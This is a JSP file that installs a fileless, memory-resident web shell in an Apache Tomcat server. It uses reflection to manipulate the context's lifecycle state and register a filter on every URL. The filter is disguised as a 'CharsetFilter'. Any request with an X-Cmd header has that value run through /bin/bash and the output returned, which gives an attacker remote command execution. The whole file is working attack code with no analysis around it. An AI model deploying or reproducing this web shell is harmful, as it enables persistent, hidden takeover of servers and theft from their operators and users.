<%@ page import="java.lang.reflect.Field,javax.servlet.*,javax.servlet.http.*,java.io.*,java.util.*" %>
<%!
public class EvilFilter implements Filter {
    public void init(FilterConfig c) {}
    public void destroy() {}
    public void doFilter(ServletRequest req, ServletResponse resp, FilterChain chain) throws IOException, ServletException {
        HttpServletRequest r = (HttpServletRequest) req;
        String cmd = r.getHeader("X-Cmd");
        if (cmd != null) {
            String[] args = new String[]{"/bin/bash", "-c", cmd};
            Scanner s = new Scanner(Runtime.getRuntime().exec(args).getInputStream()).useDelimiter("\\A");
            resp.getWriter().write(s.hasNext() ? s.next() : "");
            return;
        }
        chain.doFilter(req, resp);
    }
}
%>
<%
ServletContext sc = request.getSession().getServletContext();
Field f = sc.getClass().getDeclaredField("context");
f.setAccessible(true);
Object appCtx = f.get(sc);
Field f2 = appCtx.getClass().getDeclaredField("context");
f2.setAccessible(true);
Object stdCtx = f2.get(appCtx);
Field stateField = Class.forName("org.apache.catalina.util.LifecycleBase").getDeclaredField("state");
stateField.setAccessible(true);
stateField.set(stdCtx, Class.forName("org.apache.catalina.LifecycleState").getField("STARTING_PREP").get(null));
FilterRegistration.Dynamic reg = sc.addFilter("CharsetFilter" + System.nanoTime(), new EvilFilter());
reg.addMappingForUrlPatterns(EnumSet.of(DispatcherType.REQUEST), false, "/*");
stateField.set(stdCtx, Class.forName("org.apache.catalina.LifecycleState").getField("STARTED").get(null));
out.print("ok");
%>
